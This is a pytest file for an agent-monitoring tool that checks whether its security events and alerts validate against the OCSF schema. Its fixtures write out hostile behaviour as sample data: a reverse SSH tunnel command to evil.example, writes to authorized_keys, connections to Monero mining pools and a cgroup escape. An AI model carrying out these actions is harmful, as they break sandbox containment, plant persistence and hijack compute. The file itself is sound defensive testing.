"""Every record kind and every alert outcome, rendered by `agenttrace.sinks.ocsf`, validated against
the official OCSF 1.4.0 schema (compiled from the ocsf-schema tag by the official compiler,
vendored in tests/data/ocsf/): JSON Schema per class and declared profiles by
`ocsf-json-schema`, validation by `jsonschema`. 0 errors is the contract."""
from __future__ import annotations

import copy
import gzip
import json
import subprocess
from functools import lru_cache
from pathlib import Path

import pytest

jsonschema = pytest.importorskip("jsonschema")
ocsf_json_schema = pytest.importorskip("ocsf_json_schema")

from agenttrace.decode.dns import dns_body, parse_message   # noqa: E402
from agenttrace.sinks.ocsf import OCSF_VERSION, to_ocsf   # noqa: E402
from agenttrace.decode.protocols import classify   # noqa: E402

from conftest import AGENTTRACE   # noqa: E402

DATA = Path(__file__).parent / "data" / "ocsf"
FIXTURES = Path(__file__).parent / "fixtures"
TS = "2026-11-27T07:00:00.123456789Z"
AGENT = {"id": "a1", "cgroup": "/agents/a1", "cgroup_id": 4242, "team": "rl"}
PROC = {"pid": 321, "ppid": 300, "uid": 1000, "comm": "ssh", "exe": "/usr/bin/ssh",
        "args": ["ssh", "-R", "2222:localhost:22", "user@203.0.113.7"],
        "ancestry": [{"pid": 300, "comm": "python3", "exe": "/usr/bin/python3.11"}]}
NET = {"proto": "tcp", "family": "ipv4", "src": {"addr": "10.0.0.5", "port": 40000},
       "dst": {"addr": "203.0.113.7", "port": 22, "scope": "external", "name": "evil.example"},
       "verdict": "allowed", "result": "established"}
OUTCOMES = ("reported", "blocked", "killed", "frozen", "exited")


@lru_cache(maxsize=1)
def _schema():
    with gzip.open(DATA / "ocsf-1.4.0.json.gz") as f:
        compiled = json.load(f)
    assert compiled["version"] == OCSF_VERSION
    return ocsf_json_schema.OcsfJsonSchemaEmbedded(compiled)


@lru_cache(maxsize=None)
def _validator(class_uid: int, profiles: tuple):
    s = _schema()
    name = s.lookup_class_name_from_uid(class_uid) if class_uid else "base_event"
    js = s.get_class_schema(class_name=name, profiles=list(profiles))
    return jsonschema.Draft202012Validator(js, format_checker=jsonschema.FormatChecker())


def errors(ev: dict) -> list[str]:
    v = _validator(ev["class_uid"], tuple(sorted(ev["metadata"].get("profiles", []))))
    return [f"{'/'.join(map(str, e.absolute_path))}: {e.message[:300]}" for e in v.iter_errors(ev)]


def rec(kind, **body):
    r = {"ts": TS, "kind": kind, "node": "gpu-node-1", "agent": dict(AGENT), "schema_version": 1}
    r.update(copy.deepcopy(body))
    return r


def _dns_wire(name: str, response: bool, rcode: int = 0, answer: str | None = None) -> bytes:
    import dns.message
    import dns.rcode
    import dns.rrset
    q = dns.message.make_query(name, "A", id=7)
    if not response:
        return q.to_wire()
    r = dns.message.make_response(q)
    r.set_rcode(rcode)
    if answer:
        r.answer.append(dns.rrset.from_text(name + ".", 60, "IN", "A", answer))
    return r.to_wire()


def _dns_rec(name, response=False, rcode=0, answer=None):
    body = dns_body(parse_message(_dns_wire(name, response, rcode, answer)), "10.0.0.53", 53)
    body["direction"] = "ingress" if response else "egress"
    return rec("dns", proc=PROC, net={"proto": "udp", "family": "ipv4", "src": {"addr": "10.0.0.5", "port": 5353},
                                      "dst": {"addr": "10.0.0.53", "port": 53, "scope": "internal"},
                                      "verdict": "allowed"}, dns=body)


def _flow(payload: bytes, **net):
    proto, detail = classify(payload)
    return rec("flow", proc=PROC, net=dict(NET, **net), flow={"protocol": proto, "detail": detail})


def _tls_hello(sni: bytes) -> bytes:
    ext_sni = b"\x00\x00" + (len(sni) + 5).to_bytes(2, "big") + (len(sni) + 3).to_bytes(2, "big") + \
        b"\x00" + len(sni).to_bytes(2, "big") + sni
    ext_ver = b"\x00\x2b\x00\x03\x02\x03\x04"
    exts = ext_sni + ext_ver
    body = b"\x03\x03" + b"\x00" * 32 + b"\x00" + b"\x00\x02\x13\x01" + b"\x01\x00" + len(exts).to_bytes(2, "big") + exts
    hs = b"\x01" + len(body).to_bytes(3, "big") + body
    return b"\x16\x03\x01" + len(hs).to_bytes(2, "big") + hs


def _sni_check(name: bytes) -> dict:
    """A flow record from the kernel's TLS server-name check (probes/tls.c, decode/tlssni.py)."""
    from agenttrace.decode.tlssni import sni_parts
    from agenttrace.kernel.wire import Sni
    o = Sni()
    o.family, o.sport, o.dport, o.verdict, o.match, o.policy_id = 2, 40000, 443, 1, 2, 7
    o.name_len, o.name_off = len(name), 120
    o.saddr[10] = o.saddr[11] = o.daddr[10] = o.daddr[11] = 0xff
    o.saddr[12:16], o.daddr[12:16] = [10, 0, 0, 5], [203, 0, 113, 20]
    o.name[:len(name)] = list(name)
    net, flow = sni_parts(o)
    net["dst"].update(scope="external", name=None)
    net["policy_rule"] = "mining-pool-tls-sni"
    return rec("flow", proc=PROC, net=net, flow=flow)


FILE = {"path": "/home/dev/.ssh/authorized_keys", "raw_path": "authorized_keys", "op": "write",
        "syscall": "openat", "flags": ["O_WRONLY"], "class": "authorized_keys", "verdict": "allowed"}


def every_kind() -> dict[str, dict]:
    out = {
        "exec": rec("exec", proc=PROC),
        "exec killed in the kernel": rec("exec", proc=dict(PROC, killed_in_kernel=True, policy_id=3)),
        "exec reparented": rec("exec", proc=dict(PROC, ppid=1)),
        "exec without a parent": rec("exec", proc=dict(PROC, ppid=None, ancestry=[])),
        "fork": rec("fork", proc=PROC),
        "exit": rec("exit", proc=PROC, exit_code=0, duration_ms=1.5),
        "exit by signal": rec("exit", proc=PROC, exit_code=137, signal=9, duration_ms=None),
        "listen": rec("listen", proc=PROC, net={"proto": "tcp", "family": "ipv4", "what": "listen",
                                                "local": {"addr": "0.0.0.0", "port": 8080}}),
        "accept": rec("listen", proc=PROC, net={"proto": "tcp", "family": "ipv4", "what": "accept",
                                                "local": {"addr": "10.0.0.5", "port": 8080},
                                                "remote": {"addr": "198.51.100.3", "port": 51000, "scope": "external"}}),
        "dns query": _dns_rec("pool.example"),
        "dns answer": _dns_rec("pool.example", True, 0, "198.51.100.9"),
        "dns nxdomain": _dns_rec("nothing.example", True, 3),
        "dns underscore name": _dns_rec("_dmarc.example"),
        "dns unparsable": rec("dns", proc=PROC, net={"proto": "udp", "family": "ipv4",
                                                     "src": {"addr": "10.0.0.5", "port": 5353},
                                                     "dst": {"addr": "10.0.0.53", "port": 53}, "verdict": "allowed"},
                              dns={"query": "", "qtype": "", "server": {"addr": "10.0.0.53", "port": 53},
                                   "error": "short", "first_bytes": "00", "direction": "egress"}),
        "flow ssh": _flow(b"SSH-2.0-OpenSSH_9.2p1\r\n"),
        "flow tls": _flow(_tls_hello(b"pool.example")),
        "flow tls cut": _flow(_tls_hello(b"pool.example")[:20]),
        "flow tls sni_check": _sni_check(b"gulf.moneroocean.stream"),
        "flow stratum": _flow(b'{"id":1,"method":"mining.subscribe","params":[]}\n', verdict="blocked", result="blocked"),
        "flow http": _flow(b"GET / HTTP/1.1\r\nHost: x.example\r\n\r\n"),
        "gpu": rec("gpu", proc=PROC, gpu={"index": 0, "uuid": "GPU-1", "name": "H100", "used_memory_mib": 10,
                                          "sm_util_pct": 99}),
        "device": rec("device", proc=PROC, device={"major": 195, "minor": 0, "access": "rw", "verdict": "blocked"}),
        "file open": rec("file", proc=PROC, file=FILE),
        "file rename killed": rec("file", proc=PROC, file=dict(FILE, syscall="renameat2", flags=[], verdict="killed",
                                                               kill_effect="name_in_place")),
        "file link": rec("file", proc=PROC, file=dict(FILE, syscall="linkat", flags=[])),
        "file unreadable": rec("file", proc=PROC, file=dict(FILE, path=None, raw_path=None, path_read_failed=True)),
    }
    pod_agent = dict(AGENT, container={"runtime": "containerd", "id": "4f" * 32},
                     pod={"uid": "0d5e1c9a-3b7f-4c2e-9a1d-6f8e2b4c7a10", "qos": "burstable"})
    out["exec in a kubernetes pod"] = dict(rec("exec", proc=dict(PROC, exec_id="b1:321:99", parent_exec_id="b1:300:7")),
                                           agent=pod_agent, schema_version="1.1")
    out["summary"] = rec("summary", summary={
        "reason": "cgroup_removed", "first_ts": TS, "last_ts": TS, "duration_s": 1.5, "records": 3,
        "records_by_kind": {"exec": 2, "alert": 1}, "processes": {"execs": 2, "forks": 0, "distinct_pids": 2},
        "root": {"pid": 321, "exe": "/usr/bin/ssh", "exit_code": 0}, "alerts": 1,
        "alerts_by_rule": {"tunnel-ssh": {"reported": 1}}, "connects_by_proto": {"tcp/allowed": 1},
        "flows_by_protocol": {"ssh": 1}, "destinations": [["203.0.113.7:22", 1]], "dns_names": [], "gpu": []})
    out["socket fenced"] = rec("socket", proc=PROC, socket={"family": "inet", "type": "raw", "protocol": "icmp",
                                                             "verdict": "blocked", "fenced": True})
    out["escape killed"] = rec("escape", proc=PROC, escape={"pid": 321, "by_pid": 321, "self": True,
                                                            "how": "cgroup_procs", "verdict": "killed",
                                                            "to": {"cgroup": "/elsewhere", "cgroup_id": 9}})
    out["connect from the inventory"] = rec("connect", proc=PROC, net=dict(NET, op="inventory", cookie=77))
    for result in ("established", "pending", "refused", "error", "sent", "blocked"):
        net = dict(NET, result=result, verdict="blocked" if result == "blocked" else "allowed")
        if result == "blocked":
            net["src"] = None
        out[f"connect {result}"] = rec("connect", proc=PROC, net=net)
    for scope in ("loopback", "internal", "metadata"):
        out[f"connect {scope}"] = rec("connect", proc=PROC, net=dict(NET, dst=dict(NET["dst"], scope=scope, name="a_b")))
    for phase in ("started", "reloaded", "reload_failed", "notice", "stats", "stopped"):
        out[f"lifecycle {phase}"] = rec("lifecycle", agent=None, phase=phase, counters={"events": 3, "alerts": 1})
    trig = {"exec": {"proc": PROC}, "connect": {"proc": PROC, "net": NET},
            "dns": {"proc": PROC, "dns": {"query": "pool.example", "qtype": "A",
                                          "server": {"addr": "10.0.0.53", "port": 53}}},
            "flow": {"proc": PROC, "net": NET, "flow": {"protocol": "ssh", "detail": {"banner": "SSH-2.0-x"}}},
            "file": {"proc": PROC, "file": FILE}, "gpu": {"proc": PROC, "gpu": {"index": 0}},
            "listen": {"proc": PROC, "net": {"proto": "tcp", "local": {"addr": "0.0.0.0", "port": 22}}}}
    for outcome in OUTCOMES:
        for t, body in trig.items():
            out[f"alert {outcome} on {t}"] = rec("alert", trigger=t, **body, rule={
                "id": "tunnel-ssh", "category": "tunnel", "severity": "high", "action": "kill",
                "outcome": outcome, "tags": ["T1572"], "message": "reverse SSH tunnel"})
    return out


CASES = every_kind()


@pytest.mark.parametrize("name", list(CASES))
def test_every_kind_validates(name):
    ev = to_ocsf(CASES[name])
    assert errors(ev) == [], name


def test_every_kind_and_outcome_is_covered():
    schema = json.loads((Path(__file__).parents[1] / "tracer" / "schema" / "event.schema.json").read_text())
    kinds = set(schema["properties"]["kind"]["enum"])
    assert kinds <= {r["kind"] for r in CASES.values()}
    outcomes = set(schema["$defs"]["rule"]["properties"]["outcome"]["enum"]) | {"exited"}
    assert outcomes <= {r["rule"]["outcome"] for r in CASES.values() if r["kind"] == "alert"}


@pytest.mark.parametrize("fixture", sorted(p.name for p in FIXTURES.glob("*.jsonl")))
def test_recorded_fixtures_validate(fixture):
    bad = []
    for i, line in enumerate((FIXTURES / fixture).read_text().splitlines(), 1):
        e = errors(to_ocsf(json.loads(line)))
        if e:
            bad.append((i, e[:3]))
    assert bad == []


def test_replayed_alerts_validate(tmp_path):
    """Alerts as the rules engine makes them, through the CLI a user runs."""
    out = subprocess.run([str(AGENTTRACE), "rules", "test", "rules", "--json",
                          "--events", str(FIXTURES / "events_attack.jsonl")],
                         cwd=Path(__file__).parents[1], capture_output=True, text=True, timeout=120)
    alerts = [json.loads(l) for l in out.stdout.splitlines() if l.startswith("{")]
    assert len(alerts) >= 5, out.stderr
    uids = set()
    for a in alerts:
        ev = to_ocsf(a)
        assert errors(ev) == [], a["rule"]["id"]
        uids.add(ev["finding_info"]["uid"])
    assert len(uids) == len(alerts)    # one finding per alert


def test_the_validator_is_not_vacuous():
    """What the schema refuses, it reports: undeclared profiles, a bad enum, an empty endpoint."""
    ev = to_ocsf(CASES["connect blocked"])
    ev["metadata"]["profiles"] = []
    assert any("action_id" in e or "actor" in e for e in errors(ev))
    ev = to_ocsf(CASES["alert frozen on exec"])
    ev["disposition_id"] = 1234
    assert errors(ev)
    ev = to_ocsf(CASES["dns query"])
    ev["dst_endpoint"] = {}
    assert errors(ev)
    ev = to_ocsf(CASES["flow tls"])
    assert ev["tls"]["version"] and ev["tls"]["sni"] == "pool.example"
    del ev["tls"]["version"]
    assert errors(ev)
